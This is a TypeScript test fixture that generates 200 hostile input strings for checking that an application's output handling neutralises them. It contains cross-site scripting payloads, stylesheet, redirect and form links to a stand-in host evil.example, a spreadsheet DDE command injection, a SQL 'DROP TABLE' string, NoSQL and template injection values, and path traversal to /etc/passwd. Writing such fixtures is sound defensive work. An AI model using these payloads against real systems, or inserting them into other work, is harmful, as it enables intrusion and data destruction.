/** hostile.ts -- 200 strings that want to be more than text. `hit` is what the tests listen for. */

const bodies = [
    '<script>hit()</script>', '<img src=x onerror=hit()>', '<svg onload=hit()>', '<svg><script>hit()</script></svg>',
    '<iframe srcdoc="<script>parent.hit()</script>">', '<body onload=hit()>', '<details open ontoggle=hit()>',
    '<input autofocus onfocus=hit()>', '<a href="javascript:hit()">x</a>', '<math><mtext><script>hit()</script></mtext></math>',
    '<style>@import "//evil.example/x.css";</style>', '<link rel=stylesheet href=//evil.example/x.css>', '<base href=//evil.example/>',
    '<meta http-equiv=refresh content="0;url=//evil.example">', '<form action=//evil.example><button>go</button></form>',
    '<object data=//evil.example/x>', '<embed src=//evil.example/x>', '<video><source onerror=hit()></video>',
    '<template><script>hit()</script></template>', '<noscript><img src=x onerror=hit()></noscript>',
];
const wraps: ((body: string) => string)[] = [
    (body) => body,
    (body) => `</td></tr></table>${body}`,
    (body) => `"'>${body}`,
    (body) => `--><!--${body}`,
    (body) => `</script></title></textarea></style>${body}`,
    (body) => body.toUpperCase(),
    (body) => `&lt;${body}&gt;&#60;`,
];
const others = [
    'javascript:hit()', 'data:text/html,<script>hit()</script>', '{{constructor.constructor("hit()")()}}', '$(hit())', '#{hit()}', '`hit()`',
    '=HYPERLINK("http://evil.example","x")', '=1+1', '+1+1', '-1+1', '@SUM(1)', '=cmd|\' /C calc\'!A0',
    '\u202Eevil\u202C', '\u2066a\u2069', '\u200Bzero', '\uFEFFmark', 'a\u0300'.repeat(40), 'ﷺ'.repeat(20),
    '"', "'", '\\', '\\"', "';alert(1)//", '"};hit();//', '</', '<!--', ']]>', '<?php hit() ?>', '%3Cscript%3Ehit()%3C/script%3E',
    '\\u003cscript\\u003ehit()\\u003c/script\\u003e', '&#x3C;script&#x3E;hit()', '__proto__', 'constructor', 'toString', 'hasOwnProperty',
    'null', 'undefined', 'NaN', 'true', '[object Object]', '0', '-0', '1e999', "'; DROP TABLE by_item; --", '$where', '{"$gt":""}',
    'https://evil.example/', '//evil.example/x.js', 'file:///etc/passwd', '../../../etc/passwd', 'x'.repeat(2000), '🍔'.repeat(50), '👩‍👩‍👧‍👦', '漢字', 'עברית', 'العربية',
    '<', '>', '&', '&amp;', '%00', '%n%n%n', '{0}', '\u001b[31mred', '\u009b31m', '\u0007bell',
    '\u0001', '\u007f', '<\u0000script>'.replace('\u0000', '\u0008'),
];

export const hostile: string[] = [...wraps.flatMap((wrap) => bodies.map(wrap)), ...others].slice(0, 200);
